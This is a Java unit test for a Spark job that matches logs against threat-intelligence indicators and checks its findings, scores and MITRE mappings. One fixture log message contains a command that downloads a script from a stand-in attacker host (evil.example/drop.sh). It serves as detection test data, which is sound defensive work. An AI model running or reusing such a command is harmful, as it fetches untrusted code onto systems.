package io.nightshift.jobs.detect.intel;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;

import org.apache.spark.sql.Row;
import org.apache.spark.sql.SparkSession;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import io.nightshift.jobs.TestNights;
import io.nightshift.jobs.TestSpark;
import io.nightshift.jobs.base.Location;
import io.nightshift.jobs.base.Progress;
import io.nightshift.jobs.config.IntelConfig;
import io.nightshift.jobs.detect.rules.LogRows;
import io.nightshift.jobs.schema.ResultTables;
import io.nightshift.jobs.stage.StageOutputs;

/** Matching logs against indicators: every candidate source, grouping per indicator and entity, words and scores. */
class IntelMatchingTest {
    static SparkSession spark;

    @BeforeAll
    static void start() {
        spark = TestSpark.session();
    }

    static LogRows logs() {
        LogRows rows = new LogRows();
        rows.add("1", "2026-11-20T02:10:00Z").user("alice").tenant("t-07").host("web-01").src("198.51.100.7")
                .action("login").message("Failed password for user alice from 198.51.100.7 port 51234");
        rows.add("2", "2026-11-20T02:12:00Z").user("alice").tenant("t-07").host("web-01").src("198.51.100.7")
                .action("login");
        rows.add("3", "2026-11-20T02:40:00Z").user("bob").host("app-02").src("10.0.0.5").dst("192.0.2.66");
        rows.add("4", "2026-11-20T03:00:00Z").host("app-02").src("10.0.0.5")
                .message("curl http://evil.example/drop.sh -o /tmp/x; resolved cdn.EVIL.example");
        rows.add("5", "2026-11-20T03:05:00Z").host("web-02").src("203.0.113.4")
                .attr("user_agent", "sqlmap/1.7 (https://sqlmap.org, x)");
        rows.add("6", "2026-11-20T03:06:00Z").host("web-02").src("203.0.113.99");
        rows.add("7", "2026-11-20T03:07:00Z").host("web-02").src("10.1.1.1")
                .message("downloaded file sha256=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA");
        rows.add("8", "2026-11-20T03:08:00Z").host("web-03").src("10.1.1.2").message("notevil.example.org is fine");
        return rows;
    }

    @Test
    void everyCandidateSourceMatchesOncePerIndicatorAndEntity(@TempDir Path dir) throws IOException {
        IndicatorFeed feed = IndicatorFeedLoader.load(IndicatorFeedLoaderTest.feeds(dir));
        var indicators = IndicatorMatcher.indicatorTable(spark, feed.activeOn(IndicatorFeedLoaderTest.DAY));
        List<Row> f = new IndicatorMatcher(50).findings(logs().frame(spark), indicators)
                .orderBy("first_seen", "detector_id").collectAsList();
        assertThat(f).extracting(r -> r.<String>getAs("metadata") == null ? null
                : r.<String, String>getJavaMap(r.fieldIndex("metadata")).get("indicator_value")).containsExactly(
                "198.51.100.7", "192.0.2.66", "evil.example", "http://evil.example/drop.sh",
                "sqlmap/1.7 (https://sqlmap.org, x)",
                "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa");
        Row inbound = f.get(0);
        assertThat(inbound.<String>getAs("description")).isEqualTo("connection from 198.51.100.7, listed by feed"
                + " abuse-ch, other-feed (confidence 90, expires 2027-06-30); 2 events for user alice (tenant t-07)"
                + " on host web-01 between 02:10 and 02:12");
        assertThat(inbound.<String>getAs("detector")).isEqualTo("threat_intel");
        assertThat(inbound.<Double>getAs("observed")).isEqualTo(2.0);
        assertThat(inbound.<Double>getAs("score")).isEqualTo(81.0);
        assertThat(inbound.<String>getAs("mitre_tactic")).isEqualTo("TA0001 Initial Access");
        assertThat(inbound.getList(inbound.fieldIndex("evidence_row_ids"))).containsExactly("1", "2");
        Row outbound = f.get(1);
        assertThat(outbound.<String>getAs("description")).startsWith("connection to 192.0.2.66, listed by feed"
                + " acme-intel (confidence 85, expires 2026-12-31); 1 event for user bob on host app-02 from 10.0.0.5");
        assertThat(outbound.<String>getAs("mitre_tactic")).isEqualTo("TA0011 Command and Control");
        assertThat(f.get(2).<String>getAs("description")).startsWith("domain evil.example seen in domain");
        assertThat(f.get(4).<String>getAs("mitre_technique")).isEqualTo("T1595 Active Scanning");
        assertThat(f.get(4).<Double>getAs("score")).isEqualTo(36.0);
    }

    @Test
    void evidenceIsBoundedAndTheStageSkipsExpiredIndicators(@TempDir Path dir) throws IOException {
        IndicatorFeed feed = IndicatorFeedLoader.load(IndicatorFeedLoaderTest.feeds(dir));
        LogRows many = new LogRows();
        for (int i = 0; i < 12; i++) {
            many.add(String.format("m%02d", i), "2026-11-20T04:" + String.format("%02d", i) + ":00Z")
                    .src("198.51.100.7");
        }
        many.addAll(logs());
        ByteArrayOutputStream progress = new ByteArrayOutputStream();
        StageOutputs outputs = new ThreatIntelStage(feed, new IntelConfig(Location.local(dir), 0, 5)).run(TestNights.of(spark,
                IndicatorFeedLoaderTest.DAY, many.frame(spark),
                new Progress(new PrintStream(progress, true, StandardCharsets.UTF_8), "test")));
        List<Row> f = outputs.get(ResultTables.FINDINGS).collectAsList();
        Row ip = f.stream().filter(r -> r.<Double>getAs("observed") == 12.0).findFirst().orElseThrow();
        assertThat(ip.getList(ip.fieldIndex("evidence_row_ids"))).containsExactly("m00", "m01", "m02", "m03", "m04");
        assertThat(f).noneMatch(r -> "203.0.113.99".equals(r.getAs("src_ip")) && r.<String>getAs("description")
                .contains("203.0.113.99,"));
        assertThat(f).allSatisfy(r -> assertThat(r.<String>getAs("finding_id")).hasSize(24));
        assertThat(progress.toString(StandardCharsets.UTF_8)).contains("6 indicators active on 2026-11-20")
                .contains("skipped " + dir.resolve("indicators.csv") + ":7:");
    }
}
